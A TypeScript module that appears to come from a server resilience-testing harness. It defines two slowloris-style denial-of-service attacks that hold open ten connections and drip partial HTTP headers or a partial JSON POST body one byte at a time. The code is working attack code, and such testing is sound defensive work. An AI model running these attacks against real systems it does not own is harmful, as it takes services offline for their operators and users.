import { pause } from '../process.ts';
import { type Attack, isOver } from './attack.ts';
import { lines } from './line.ts';

/** A head or a body, a letter every so often. */
const slowly = (name: string, head: string, letter: string): Attack => ({
  name,
  run: lines(10, async (line, target) => {
    line.resume();
    line.write(head);
    while (!isOver(target) && !line.destroyed) {
      line.write(letter);
      await pause(250);
    }
  }),
});

export const slowHeaders = slowly('headers letter by letter', 'GET / HTTP/1.1\r\nHost: x\r\nX: ', 'y');
export const slowBodies = slowly(
  'bodies letter by letter',
  'POST /api/guest HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{"name":"',
  'y',
);
